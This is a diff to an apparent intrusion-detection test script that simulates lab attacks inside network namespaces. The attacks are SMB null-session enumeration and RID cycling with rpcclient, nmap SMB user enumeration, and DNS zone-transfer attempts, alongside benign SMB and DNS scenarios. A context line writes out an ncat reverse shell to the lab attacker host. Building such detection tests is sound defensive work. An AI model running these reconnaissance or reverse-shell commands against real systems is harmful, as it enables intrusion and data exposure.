@@ -3249,6 +3249,117 @@ scn_revshell_dash_bare_prompt() {
 	inns nas timeout 8 ncat "$NET.66" 4449 --sh-exec 'exec sh +m -i 2>&1' || true
 	wait $op || true
 }
+# Session 37 (det37a): SMB null-session enumeration (review 36a
+# smb_enum_rpc, enum4linux's first steps): .66 logs on to the NAS's smbd
+# anonymously (rpcclient -U '' -N) and lists its users, groups and domain
+# (samr), the LSA's domain SID (lsaquery), then cycles RIDs 500-505 and
+# 1000-1003 with lookupsids, one connection each as enum4linux does.
+# port_scan Medium on .66, the NAS the target.
+wait_smbd() { local i; for i in $(seq 50); do inns nas ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done; }
+kill_smbd() { local p; for p in $(ip netns pids "$P-nas"); do grep -qa smbd /proc/$p/cmdline 2>/dev/null && kill "$p"; done; sleep 0.5; }
+scn_smb_null_session_enum() {
+	mkdir -p "$tmp/ftproot"; start_smbd; wait_smbd
+	inns evil rpcclient -U '' -N "$nas" -c 'srvinfo;enumdomusers;enumdomgroups;querydominfo;lsaquery' || true
+	local r; for r in 500 501 502 503 504 505 1000 1001 1002 1003; do
+		inns evil rpcclient -U '' -N "$nas" -c "lookupsids S-1-5-21-1004336348-1177238915-682003330-$r" || true
+	done
+	kill_smbd
+}
+# RID cycling alone (enum4linux -r): .66 asks the NAS's LSA for the names
+# of builtin and domain RIDs, lookupsids on an anonymous session, one
+# connection each. port_scan Medium on .66.
+scn_smb_rid_cycling() {
+	mkdir -p "$tmp/ftproot"; start_smbd; wait_smbd
+	local r; for r in 544 545 546 500 501 1000; do
+		inns evil rpcclient -U '' -N "$nas" -c "lookupsids S-1-5-32-$r" || true
+	done
+	kill_smbd
+}
+# nmap's smb-enum-users and smb-enum-groups against smbd with SMB1 allowed
+# (server min protocol NT1): SMB1 SESSION_SETUP_ANDX, anonymous, then
+# samr calls in SMB1 named-pipe transactions. port_scan Medium on .66
+# beside the NAS's SMBv1 note.
+scn_smb1_nmap_enum_users() {
+	mkdir -p "$tmp/ftproot"; start_smbd; wait_smbd; kill_smbd
+	sed -i 's/^server min protocol = SMB2$/server min protocol = NT1/' "$tmp/smb.conf"
+	spawn nas smbd -F -s "$tmp/smb.conf"; wait_smbd
+	inns evil nmap -Pn -n -p445 --script smb-enum-users,smb-enum-groups "$nas" || true
+	kill_smbd
+}
+# Benign: SMB users of the NAS. The PC lists its shares with a user
+# (smbclient -L -U root%...), a guest lists them without one (smbclient -N
+# -L: an anonymous session asking srvsvc only), the user changes his
+# password (smbpasswd -r: an anonymous session asking samr for
+# ChangePasswordUser3), and pc2 copies files with the user. Nothing.
+scn_benign_smb_users() {
+	mkdir -p "$tmp/ftproot" "$tmp/backup"; echo report >"$tmp/ftproot/report.txt"; start_smbd; wait_smbd
+	inns pc smbclient -L "//$nas" -U 'root%Backup-2026' || true
+	inns pc smbclient -N -L "//$nas" || true
+	printf 'Backup-2026\nBackup-2027\nBackup-2027\n' | inns pc smbpasswd -r "$nas" -U root -s || true
+	inns pc2 smbclient "//$nas/data" -U 'root%Backup-2027' -m SMB3 -c "prompt off; lcd $tmp/backup; mget *" || true
+	inns pc rpcclient -U 'root%Backup-2027' "$nas" -c 'srvinfo;netshareenumall;enumdomusers;enumdomgroups' || true
+	kill_smbd
+}
+# Session 37 (det37a): DNS zone transfer attempts (review 36a dig_axfr,
+# nmap_dns_zone): the gateway's dnsmasq is authoritative for lan and the
+# reverse zone and lets only pc2 (.11) transfer them; .66 asks it for
+# lan, the reverse zone and lab.local with dig AXFR, and nmap's
+# dns-zone-transfer: all REFUSED (a dig ixfr=1 among them, a secondary's
+# refresh in shape, is not counted). port_scan Medium on .66, the
+# gateway the target.
+restart_gw_auth() { # GW-dnsmasq authoritative for lan, transfers allowed to PEER
+	local p; for p in $(ip netns pids "$P-gw"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done; sleep 0.5
+	spawn gw dnsmasq -k --no-resolv --no-hosts --addn-hosts="$tmp/hosts" --interface=eth0 --bind-interfaces \
+		--dhcp-range=$NET.150,$NET.200,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/gw.leases" --address=/example.com/$NET.30 \
+		--auth-server=gw.lan,eth0 --auth-zone=lan,$NET.0/24 --auth-peer="$1"
+	sleep 1
+}
+scn_zone_transfer_refused() {
+	restart_gw_auth "$NET.11"
+	inns evil dig @"$NET.1" lan AXFR || true
+	inns evil dig @"$NET.1" 8.88.10.in-addr.arpa AXFR || true
+	inns evil dig @"$NET.1" lan IXFR=1 || true
+	inns evil dig @"$NET.1" lab.local AXFR || true
+	inns evil nmap -Pn -n -p53 --script dns-zone-transfer --script-args dns-zone-transfer.domain=lan "$NET.1" || true
+	restart_gw_dnsmasq
+}
+# The same dnsmasq letting anyone's transfer through (--auth-peer names
+# .66, as a server open to all answers any): dig AXFR lan from .66 gets the
+# whole zone. port_scan High on .66 (the zone leaked).
+scn_zone_transfer_answered() {
+	restart_gw_auth "$NET.66"
+	inns evil dig @"$NET.1" lan AXFR || true
+	restart_gw_dnsmasq
+}
+# Benign: a secondary DNS server. bind9 on the NAS is primary for corp.lab
+# (NOTIFY and transfers to pc2 only, IXFR from differences), bind9 on pc2
+# its secondary: the primary NOTIFYs, the secondary asks SOA and AXFRs;
+# two dynamic updates (nsupdate on the NAS) raise the serial, each time
+# NOTIFY, SOA and an IXFR carrying the secondary's SOA. Nothing.
+bind_conf() { # DIR ADDR ZONE-STANZA
+	mkdir -p "$1"; chmod 777 "$1"
+	printf 'options { directory "%s"; listen-on { %s; }; listen-on-v6 { none; }; pid-file none; recursion no; dnssec-validation no; notify-source %s; transfer-source %s; };\ncontrols { };\n%s\n' "$1" "$2" "$2" "$2" "$3" >"$1/named.conf"
+}
+corp_zone() { # FILE SERIAL
+	printf '$TTL 300\n@ IN SOA ns1.corp.lab. admin.corp.lab. ( %s 60 30 600 60 )\n@ IN NS ns1.corp.lab.\n@ IN NS ns2.corp.lab.\nns1 IN A %s.30\nns2 IN A %s.11\nfs1 IN A %s.30\nprinter IN A %s.40\nhost%s IN A %s.41\n' "$2" "$NET" "$NET" "$NET" "$NET" "$2" "$NET" >"$1"
+}
+scn_benign_dns_secondary() {
+	local d1=$tmp/bindp d2=$tmp/binds
+	bind_conf "$d2" "$NET.11" "zone \"corp.lab\" { type secondary; primaries { $NET.30; }; file \"$d2/corp.db\"; };"
+	bind_conf "$d1" "$NET.30" "zone \"corp.lab\" { type primary; file \"$d1/corp.db\"; notify explicit; also-notify { $NET.11; }; allow-transfer { $NET.11; }; allow-update { $NET.30; }; };"
+	corp_zone "$d1/corp.db" 2026120701
+	inns pc2 named -g -n 1 -c "$d2/named.conf" >"$tmp/named2.log" 2>&1 & local n2=$!
+	sleep 1
+	inns nas named -g -n 1 -c "$d1/named.conf" >"$tmp/named1.log" 2>&1 & local n1=$!
+	sleep 4
+	local h; for h in pc3 pc4; do
+		printf 'server %s\nzone corp.lab\nupdate add %s.corp.lab 300 A %s.42\nsend\n' "$NET.30" "$h" "$NET" | inns nas nsupdate || true
+		sleep 4
+	done
+	inns pc dig @"$NET.30" fs1.corp.lab A +short || true
+	kill $n1 $n2; wait $n1 $n2 2>/dev/null || true
+	grep -hE 'transfer|notify|Transfer' "$tmp/named1.log" "$tmp/named2.log" | tail -12
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
